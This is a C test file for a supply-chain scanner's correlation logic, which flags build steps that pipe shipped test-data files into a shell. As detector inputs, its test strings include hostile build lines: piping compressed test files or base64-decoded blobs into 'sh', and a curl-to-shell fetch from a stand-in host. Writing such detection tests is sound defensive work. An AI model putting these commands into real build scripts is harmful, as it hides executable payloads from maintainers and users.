/* test_correlate.c - binary test data a build step reads (correlate.c):
 * references found in build lines, and findings made across files.
 * SPDX-License-Identifier: Apache-2.0 */
#include "harness.h"
#include "lib/assay_int.h"

#include <stdlib.h>

static const char rules_yaml[] =
    "rules:\n"
    "  - id: t.build\n"
    "    title: Build pipes into a shell\n"
    "    category: build\n"
    "    severity: critical\n"
    "    files: [shell, make, cmake, m4, python]\n"
    "    why: w\n"
    "    match: {regex: '\\|[ \\t]*(?:sh|\\$\\(SHELL\\))\\b'}\n"
    "    examples: {match: ['x | sh'], no_match: ['x | cat']}\n"
    "  - id: t.medium\n"
    "    title: Build rewrites a file\n"
    "    category: build\n"
    "    severity: medium\n"
    "    files: [shell, make]\n"
    "    why: w\n"
    "    match: {regex: 'sed -i'}\n"
    "    examples: {match: ['sed -i x'], no_match: ['sed x']}\n"
    "  - id: t.data\n"
    "    title: Test data read by a build step\n"
    "    category: build\n"
    "    severity: high\n"
    "    files: [binary]\n"
    "    why: w\n"
    "    match: {correlate: build-input}\n"
    "    examples:\n"
    "      kind: shell\n"
    "      match: ['cat tests/x.bin | sh']\n"
    "      no_match: ['cat tests/x.bin | cat', 'cat x.bin | sh']\n";

/* 1 when the reference list holds `want`. */
static int has_ref(const char *refs, const char *want)
{
    for (const char *p = refs; p && *p; p += strlen(p) + 1)
        if (!strcmp(p, want))
            return 1;
    return 0;
}

static char *refs_of(const char *text, const char *at)
{
    const char *p = strstr(text, at);
    size_t s = p ? (size_t)(p - text) : 0;
    return assay__correlate_refs(text, strlen(text), s, s + 1);
}

void test_correlate__references_in_build_lines(void)
{
    char *r;

    r = refs_of("all:\n\t@dd if=$(srcdir)/tests/data/s.bin bs=1 skip=9 | "
                "$(SHELL)\n", "dd");
    CHECK(has_ref(r, "tests/data/s.bin"));
    CHECK(!has_ref(r, "dd"));
    free(r);
    r = refs_of("COMMAND sh -c \"tail -c 30 ${CMAKE_SOURCE_DIR}/tests/v/l.gz"
                " | gunzip | sh\"\n", "tail");
    CHECK(has_ref(r, "tests/v/l.gz"));
    free(r);
    /* a variable set elsewhere in the file, and one inside a name (glob) */
    r = refs_of("blob=\"$top_srcdir/t/x/sample-3.bin\"\n# ...\n"
                "eval \"$(tail -c 9 \"$blob\" | base64 -d)\"\n", "eval");
    CHECK(has_ref(r, "t/x/sample-3.bin"));
    free(r);
    r = refs_of("x=$(xz -dc $srcdir/tests/files/bad-$n.xz | sh)\n", "x=");
    CHECK(has_ref(r, "tests/files/bad-*.xz"));
    free(r);
    r = refs_of("for f in $srcdir/testdata/*.lzma; do lzcat \"$f\" | sh; "
                "done\n", "lzcat");
    CHECK(has_ref(r, "testdata/*.lzma"));
    free(r);
    r = refs_of("d = os.path.join(here, 'tests', 'files', 'x.bin')\n", "d =");
    CHECK(has_ref(r, "tests/files/x.bin"));
    free(r);
    /* URLs, absolute paths, options and bare words are not files here */
    r = refs_of("curl -fsSL https://h.example/i.sh 2>/dev/null | sh -s\n",
                "curl");
    CHECK(!has_ref(r, "h.example/i.sh"));
    CHECK(!has_ref(r, "dev/null"));
    CHECK(!has_ref(r, "sh"));
    free(r);
    CHECK(assay__correlate_is_data("tests/files/a.xz", 0));
    CHECK(assay__correlate_is_data("t/x", KBIT(ASSAY_K_BINARY)));
    CHECK(!assay__correlate_is_data("src/a.xz", 0));
    CHECK(!assay__correlate_is_data("tests/run.sh", KBIT(ASSAY_K_SHELL)));
}

typedef struct file {
    const char *path, *identity, *text;
    size_t len;
} file;

static int to_buf(const char *d, size_t n, void *p)
{
    return assay_buf_put(p, d, n);
}

/* Scan `files` in the given order into one report; its JSON. */
static char *run(assay_rules *rs, const file *files, size_t n,
                 const size_t *order, assay_report **keep)
{
    assay_scanner *sc = NULL;
    assay_report *rep = NULL;
    assay_buf b = ASSAY_BUF_INIT;

    if (assay_scanner_new(&sc, rs, NULL) < 0 ||
        assay_report_new(&rep, rs, NULL) < 0)
        return NULL;
    for (size_t i = 0; i < n; i++) {
        const file *f = &files[order ? order[i] : i];
        assay_file_result *res = NULL;
        size_t len = f->len ? f->len : strlen(f->text);
        if (assay__scan_buffer_as(sc, f->path, f->identity, f->text, len,
                                  &res) == 0)
            assay_report_add_result(rep, res);
    }
    assay_scanner_free(sc);
    assay_report_finish(rep);
    assay_report_write(rep, ASSAY_FORMAT_JSON, to_buf, &b);
    if (keep)
        *keep = rep;
    else
        assay_report_free(rep);
    return assay_buf_take(&b);
}

static const assay_finding *find(const assay_report *rep, const char *rule,
                                 const char *path)
{
    for (size_t i = 0; i < assay_report_count(rep); i++) {
        const assay_finding *f = assay_report_get(rep, i);
        if (!strcmp(f->rule_id, rule) && !strcmp(f->path, path))
            return f;
    }
    return NULL;
}

static const char bin[] = "\xfd\x37\x7a\x58\x5a\x00\x00\x04payload";

void test_correlate__data_read_by_build_is_a_finding(void)
{
    static const file files[] = {
        {"rel.tgz!/p-1/Makefile", "Makefile",
         "all:\n\tcat $(srcdir)/tests/files/a.xz | sh\n", 0},
        {"rel.tgz!/p-1/src/Makefile.am", "src/Makefile.am",
         "all-local:\n\tsed -i x ../tests/files/c.bin\n", 0},
        {"rel.tgz!/p-1/sub/build.sh", "sub/build.sh",
         "#!/bin/sh\nxz -dc ../tests/more/*.xz | sh\n", 0},
        {"rel.tgz!/p-1/check.sh", "check.sh",
         "#!/bin/sh\nxz -dc tests/files/b.xz | cmp - tests/files/b.out\n", 0},
        {"rel.tgz!/p-1/tests/files/a.xz", "tests/files/a.xz", bin,
         sizeof(bin) - 1},
        {"rel.tgz!/p-1/tests/files/b.xz", "tests/files/b.xz", bin,
         sizeof(bin) - 1},
        {"rel.tgz!/p-1/tests/files/c.bin", "tests/files/c.bin", bin,
         sizeof(bin) - 1},
        {"rel.tgz!/p-1/tests/more/d.xz", "tests/more/d.xz", bin,
         sizeof(bin) - 1},
        {"rel.tgz!/p-1/tests/more/e.txt", "tests/more/e.txt", "text", 0},
    };
    static const size_t reversed[] = {8, 7, 6, 5, 4, 3, 2, 1, 0};
    assay_rules *rs = HARNESS_RULES("t.yaml", rules_yaml);
    assay_report *rep = NULL;
    const assay_finding *f;
    char *a, *b;

    CHECK(rs != NULL);
    a = run(rs, files, 9, NULL, &rep);
    CHECK(a != NULL && rep != NULL);
    /* a literal path from the root, through $(srcdir) */
    f = find(rep, "t.data", "rel.tgz!/p-1/tests/files/a.xz");
    CHECK(f != NULL);
    CHECK(strstr(f->message, "Makefile:2") != NULL);
    CHECK_EQ_INT(f->severity, ASSAY_SEV_HIGH);
    CHECK_EQ_INT(f->category, ASSAY_CAT_BUILD);
    /* the build finding names what it reads */
    f = find(rep, "t.build", "rel.tgz!/p-1/Makefile");
    CHECK(f != NULL && strstr(f->message, "reads tests/files/a.xz"));
    /* `..` from a sub-folder; a weaker build step gives its severity */
    f = find(rep, "t.data", "rel.tgz!/p-1/tests/files/c.bin");
    CHECK(f != NULL);
    CHECK_EQ_INT(f->severity, ASSAY_SEV_MEDIUM);
    /* a glob names the binary files it matches, not the text one */
    CHECK(find(rep, "t.data", "rel.tgz!/p-1/tests/more/d.xz") != NULL);
    CHECK(find(rep, "t.data", "rel.tgz!/p-1/tests/more/e.txt") == NULL);
    /* test data read only to run tests is not a finding */
    CHECK(find(rep, "t.data", "rel.tgz!/p-1/tests/files/b.xz") == NULL);
    assay_report_free(rep);
    /* the order results arrive in does not matter */
    b = run(rs, files, 9, reversed, NULL);
    CHECK(b != NULL);
    CHECK_EQ_STR(a, b);
    free(a);
    free(b);
    assay_rules_free(rs);
}

/* The fingerprint holds the data file's path inside the release and the
 * build finding's: another release with the same pair gives the same one. */
void test_correlate__fingerprint_is_release_independent(void)
{
    static const file one[] = {
        {"old/Makefile", "Makefile", "all:\n\tcat tests/x.bin | sh\n", 0},
        {"old/tests/x.bin", "tests/x.bin", bin, sizeof(bin) - 1},
    };
    static const file two[] = {
        {"new/Makefile", "Makefile", "all:\n\tcat tests/x.bin | sh\n", 0},
        {"new/tests/x.bin", "tests/x.bin", bin, sizeof(bin) - 1},
    };
    assay_rules *rs = HARNESS_RULES("t.yaml", rules_yaml);
    assay_report *r1 = NULL, *r2 = NULL;
    const assay_finding *f1, *f2;
    char *a, *b;

    CHECK(rs != NULL);
    a = run(rs, one, 2, NULL, &r1);
    b = run(rs, two, 2, NULL, &r2);
    f1 = find(r1, "t.data", "old/tests/x.bin");
    f2 = find(r2, "t.data", "new/tests/x.bin");
    CHECK(f1 && f2);
    CHECK_EQ_STR(f1->fingerprint, f2->fingerprint);
    free(a);
    free(b);
    assay_report_free(r1);
    assay_report_free(r2);
    assay_rules_free(rs);
}
